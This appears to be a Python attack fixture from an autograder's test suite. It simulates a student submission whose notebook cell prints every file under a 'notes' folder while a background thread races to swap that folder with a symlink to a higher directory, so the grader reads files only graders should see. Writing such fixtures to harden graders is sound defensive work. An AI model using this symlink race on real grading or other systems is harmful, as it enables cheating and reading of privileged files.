"""Hands in a folder that becomes a link to what only graders can read, and a folder again, while it is read."""

from __future__ import annotations

import contextlib
import os
import threading
import time
from pathlib import Path
from typing import Any

from tplib.autograde.attacks.course import answered, write_notebook

SECONDS = 60.0
CELL = """
import glob
for name in glob.glob("notes/**", recursive=True):
    with contextlib.suppress(OSError), open(name, errors="replace") as file:
        print(file.read())


def sigmoid(x):
    return x
"""


def hand_in(folder: Path, notebook: dict[str, Any]) -> None:
    write_notebook(folder / "task.ipynb", answered(f"import contextlib{CELL}"))
    (folder / "notes").mkdir()
    (folder / "notes" / "CANARY.txt").write_text("my own")
    threading.Thread(target=swap, args=(folder,), daemon=True).start()


def swap(folder: Path) -> None:
    """What a process of the student's does on the machine where submissions are collected."""
    place, aside, link = folder / "notes", folder.parent / ".aside", folder.parent / ".link"
    until = time.monotonic() + SECONDS
    with contextlib.suppress(OSError):
        link.symlink_to(folder.parents[2])
        while time.monotonic() < until:
            os.rename(place, aside)
            os.rename(link, place)
            os.rename(place, link)
            os.rename(aside, place)
            time.sleep(0)
